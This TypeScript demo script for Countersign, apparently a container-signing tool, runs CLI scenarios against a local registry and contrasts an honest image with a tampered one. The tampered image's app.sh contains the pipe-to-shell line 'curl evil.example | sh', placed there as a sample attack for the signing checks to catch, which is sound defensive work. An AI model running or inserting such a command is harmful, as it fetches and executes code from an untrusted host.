// SPDX-License-Identifier: Apache-2.0
// What Countersign is for, shown with real commands against a real registry on this machine.
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { systemClock } from '../packages/countersign/src/host/system-clock.ts';
import { systemRandom } from '../packages/countersign/src/host/system-random.ts';
import { startHub } from '../packages/countersign/src/hub/start-hub.ts';
import { silentLog } from '../packages/countersign/src/ports/log.ts';
import { buildImage } from './demo/build-image.ts';
import { tellKeyless } from './demo/keyless.ts';
import { tellAttack, tellSigning, tellUnsigned } from './demo/keys.ts';
import { tellPolicy } from './demo/policy.ts';
import type { Expected, Story } from './demo/story.ts';

const root = resolve(import.meta.dirname, '..');
const program = join(root, 'packages/countersign/bin/countersign.cjs');

class DemoFailed extends Error {}

async function main(): Promise<void> {
  const startedAt = performance.now();
  const folder = await mkdtemp(join(tmpdir(), 'countersign-demo-'));
  const hub = await startHub({ storage: { kind: 'memory' }, clock: systemClock, random: systemRandom, log: silentLog });
  try {
    say(`A registry runs at ${hub.host}. Everything else happens in ${folder}, which is removed at the end.`);
    await tell(folder, hub.host);
    say(`That was the demo, in ${((performance.now() - startedAt) / 1000).toFixed(1)} s. To go on: README.md.`);
  } finally {
    await hub.close();
    await rm(folder, { recursive: true });
  }
}

async function tell(folder: string, host: string): Promise<void> {
  const run: Story['run'] = async (argv, expected) => await runCommand(folder, argv, expected);
  const license = { name: 'LICENSE', content: await readFile(join(root, 'LICENSE')) };
  const script = (line: string) => ({ name: 'app.sh', content: new TextEncoder().encode(`#!/bin/sh\n${line}\n`) });
  const story: Story = {
    folder,
    host,
    honest: await buildImage(join(folder, 'honest'), 'v1', [license, script('echo hello')]),
    tampered: await buildImage(join(folder, 'evil'), 'v1', [license, script('curl evil.example | sh')]),
    step,
    run,
  };
  await tellSigning(story);
  await tellAttack(story);
  await tellUnsigned(story);
  await tellPolicy(story);
  await tellKeyless(story);
}

const steps: string[] = [];

function step(title: string): void {
  steps.push(title);
  say(`\n${steps.length}. ${title}`);
}

async function runCommand(folder: string, argv: readonly string[], expected: Expected): Promise<void> {
  say(`\n   $ countersign ${argv.join(' ')}`);
  const { code, output } = await spawned(folder, argv, expected.shows ?? 'told');
  for (const line of output.trimEnd().split('\n')) if (line !== '') say(`   | ${line}`);
  if (code !== expected.exit) throw new DemoFailed(`wanted exit code ${expected.exit}, got ${code}`);
  say(`   → exit code ${code}. ${expected.meaning}`);
}

async function spawned(
  folder: string,
  argv: readonly string[],
  shows: 'told' | 'answer',
): Promise<{ readonly code: number | null; readonly output: string }> {
  const child = spawn(process.execPath, [program, ...argv], {
    cwd: folder,
    env: { ...process.env, COSIGN_PASSWORD: 'demo' },
    stdio: ['ignore', shows === 'answer' ? 'pipe' : 'ignore', 'pipe'],
  });
  const chunks: Buffer[] = [];
  child.stdout?.on('data', (chunk: Buffer) => chunks.push(chunk));
  child.stderr?.on('data', (chunk: Buffer) => chunks.push(chunk));
  const code = await new Promise<number | null>((done) => child.on('close', done));
  return { code, output: Buffer.concat(chunks).toString() };
}

function say(text: string): void {
  process.stdout.write(`${text}\n`);
}

await main();
